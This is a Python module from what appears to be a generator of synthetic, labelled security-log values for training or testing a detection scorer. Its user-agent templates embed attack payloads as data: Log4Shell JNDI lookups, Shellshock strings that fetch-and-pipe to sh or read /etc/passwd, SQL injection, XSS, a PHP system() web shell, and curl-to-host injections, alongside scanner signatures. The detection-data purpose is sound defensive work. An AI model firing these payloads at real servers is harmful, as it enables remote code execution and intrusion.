# ruff: noqa: E501
"""One value of an event alone, as `| aiscore field=...` sends it: a command line, a script, an address, parameters, an agent.

What happened comes from the tables of commands and of the web; only the value is left of it. Sourcetypes are those of the events that values are
taken from, so they tell nothing either.
"""
from __future__ import annotations

from . import commands, web
from .family import Family, Tables, Written
from .scene import Scene
from .table import Scenario, table
from .web_agents import VISITORS

_AGENTS = Tables((Scenario("agents_of_visitors", None, VISITORS),), table("""
# T1595.002 agents_of_scanners
sqlmap/1.«num:4:9».«num:1:12»«#stable|#dev|» (https://sqlmap.org)
Mozilla/5.00 (Nikto/2.«1|5».«num:0:6») (Evasions:None) (Test:«num:1:9999»)
Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
«gobuster/3.«num:0:6»|Fuzz Faster U Fool v2.«num:0:1».0-dev|feroxbuster/2.«num:3:11».«num:0:4»|Wfuzz/3.1.«num:0:3»|commix/v3.«num:1:9»-stable|WPScan v3.8.«num:1:28» (https://wpscan.com/wordpress-security-scanner)»
DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)
«Arachni/v1.«num:3:6»|w3af.org|Acunetix-Product|Havij|ZmEu|Morfeus Scanner|Jorgee|Nuclei - Open-source project (github.com/projectdiscovery/nuclei)|Mozilla/5.0 zgrab/0.x|masscan/1.«num:0:3» (https://github.com/robertdavidgraham/masscan)»
# T1190 agents_that_are_payloads
«${jndi:«ldap|rmi|dns»://«peer»«|:1389»/«token:5»}|${${lower:j}ndi:ldap://«peer»/«word»}|${jndi:${lower:l}${lower:d}ap://«peer»/«token:4»}»
() { :«;|» }; «/bin/bash -c|echo; /bin/cat|/usr/bin/id;» «'curl http://«peer»/«letters:3»|sh'|/etc/passwd|»
«' OR 1=1-- -|" or sleep(«num:3:20»)#|1'«word»"|<script>alert(«num:1:99»)</script>|<?php system($_GET['«letters:1»']); ?>»
Mozilla/5.0 «' AND SLEEP(«num:3:20»)--|"><svg/onload=fetch('//«peer»')>|;curl${IFS}«peer»|(select(0)from(select(sleep(«num:3:20»)))v)»
"""))
_HOST = ("XmlWinEventLog", "WinEventLog", "crowdstrike:events:sensor", "ms:defender:advancedhunting", "bash_history", "auditd", "osquery:results", "sysmon:linux")
_WEB = ("access_combined", "ms:iis:auto", "squid:access", "bluecoat:proxysg:access:kv", "f5:bigip:asm:syslog", "zscalernss-web")


def write(scene: Scene, attack: bool) -> Written:
    return scene.weighted(_FORMS)(scene, attack)


def _typed(scene: Scene, attack: bool) -> Written:
    shell, scenario, line = commands.draw_line(scene, ("sh", "ps", "cmd"), attack)
    return Written(line, scene.pick(_HOST), scene.linux_host if shell == "sh" else scene.windows_host, scenario)


def _asked(scene: Scene, attack: bool) -> Written:
    """An address whole, without its host, or its parameters alone."""
    form = scene.pick((lambda request: request.target, lambda request: f"{scene.pick(('http', 'https'))}://{request.server}{request.target}", lambda request: request.target.partition("?")[2]))
    scenario, request = web.happened(scene, attack)
    value = form(request) or request.target
    return Written(value, scene.pick(_WEB), scene.linux_host, scenario)


def _agent(scene: Scene, attack: bool) -> Written:
    scenario, row = _AGENTS.draw(scene, attack)
    return Written(scene.fill(row), scene.pick(_WEB), scene.linux_host, scenario)


_FORMS = ((_typed, 5), (_asked, 5), (_agent, 1))

FAMILY = Family("values", "values", 0.03, write)
